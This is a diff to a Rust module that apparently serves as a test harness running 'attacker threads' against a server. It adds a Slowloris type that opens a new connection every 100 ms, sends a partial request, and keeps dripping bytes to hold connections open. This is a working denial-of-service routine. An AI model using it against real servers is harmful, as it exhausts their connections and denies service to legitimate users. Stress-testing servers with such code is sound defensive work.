@@ -1,6 +1,6 @@
 //! The four stalls of the seed, run by attacker threads against a server.
 
-use crate::client::{connect_tcp, peer_closed, peer_reset};
+use crate::client::{connect_tcp, peer_closed, peer_reset, tcp_state};
 use std::io::Write;
 use std::net::{Shutdown, SocketAddr, TcpStream};
 use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
@@ -137,4 +137,51 @@ fn attack_once(addr: SocketAddr, attack: Attack, stop: &AtomicBool) -> bool {
     }
     let _ = s.shutdown(Shutdown::Both);
     false
+}
+
+/// A sustained slowloris from 127.0.0.1: every 100 ms one more connection sends `opening`,
+/// and every connection still established gets `drip`. Runs in a thread until stopped.
+pub struct Slowloris {
+    stop: Arc<AtomicBool>,
+    thread: Option<JoinHandle<()>>,
+}
+
+impl Slowloris {
+    pub fn start(addr: SocketAddr, opening: &'static [u8], drip: &'static [u8]) -> Slowloris {
+        let stop = Arc::new(AtomicBool::new(false));
+        let flag = stop.clone();
+        let thread = thread::spawn(move || {
+            let mut held = Vec::new();
+            while !flag.load(Ordering::Relaxed) {
+                if let Ok(mut s) = connect_tcp([127, 0, 0, 1], addr, None) {
+                    let _ = s.write_all(opening);
+                    held.push(s);
+                }
+                held.retain_mut(|s| s.write_all(drip).is_ok() && tcp_state(s) == 1);
+                thread::sleep(Duration::from_millis(100));
+            }
+        });
+        Slowloris {
+            stop,
+            thread: Some(thread),
+        }
+    }
+
+    /// Stops the attack and closes its connections.
+    pub fn stop(mut self) {
+        self.halt();
+    }
+
+    fn halt(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(t) = self.thread.take() {
+            t.join().unwrap();
+        }
+    }
+}
+
+impl Drop for Slowloris {
+    fn drop(&mut self) {
+        self.halt();
+    }
 }
